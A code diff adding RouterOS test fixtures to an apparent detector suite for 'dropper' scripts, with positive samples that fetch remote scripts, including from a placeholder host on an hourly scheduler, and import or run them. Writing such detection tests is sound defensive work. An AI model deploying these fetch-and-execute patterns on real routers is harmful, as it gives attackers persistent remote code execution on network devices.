@@ -649,6 +649,22 @@ describeRuleCases('dropper (network device scripts that run fetched scripts)', [
   },
   {
     id: 'SG-DROPPER-018',
+    file: 'routeros/update.rsc',
+    positive:
+      '/system scheduler add name=u interval=1h on-event="/tool fetch url=\\"https://cfg.example.net/u/patch.rsc\\"; :delay 3s; /import patch.rsc"\n',
+    negative:
+      '/system scheduler add name=u interval=1h on-event="/tool fetch url=\\"https://cfg.example.net/u/list.txt\\"; :delay 3s; /import defaults.rsc"\n',
+  },
+  {
+    id: 'SG-DROPPER-018',
+    file: 'routeros/mk.rsc',
+    positive:
+      ':local d ([/tool fetch url=$u output=user as-value]->"data")\n/system script add name=fix source=$d\n/system script run fix\n',
+    negative:
+      ':local d ([/tool fetch url=$u output=user as-value]->"data")\n/system script add name=fix source=$local\n',
+  },
+  {
+    id: 'SG-DROPPER-018',
     file: 'routeros/run.rsc',
     positive:
       ':local body ([/tool fetch url=$u output=user as-value]->"data")\n:local f [:parse $body]\n$f\n',
